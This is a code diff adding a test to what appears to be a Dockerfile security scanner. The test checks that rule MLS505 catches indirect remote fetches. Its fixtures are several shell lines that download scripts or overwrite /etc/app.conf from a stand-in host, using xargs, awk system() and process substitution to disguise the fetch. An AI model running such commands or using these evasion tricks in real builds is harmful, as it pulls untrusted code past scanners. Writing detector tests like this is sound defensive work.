@@ -286,3 +286,19 @@ def test_a_dockerfile_of_comments_only_is_low_unless_something_builds_it(
     path.write_text(text)
     found = [(f.rule_id, f.severity.value) for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))]
     assert found == [("MLS909", severity)]
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "echo http://x.example/x.sh | xargs wget -O /tmp/x.sh",
+        "cat <(curl -s http://x.example/a.sh) > /tmp/a.sh",
+        "awk 'BEGIN{system(\"curl -o /tmp/m http://x.example/m\")}'",
+        'echo "$(curl -s http://x.example/cfg)" > /etc/app.conf',
+        "printf '%s\\n' http://x.example/list | xargs -n1 curl -O",
+        "echo don\\'t && curl -o /tmp/q http://x.example/q",
+    ],
+)
+def test_a_url_a_text_tool_hands_on_is_still_a_fetch(tmp_path: Path, run: str) -> None:
+    text = f"FROM {PIN}\nRUN {run}\n{SAFE_END}"
+    assert "MLS505" in [rule for rule, _ in scan(tmp_path, text)], run
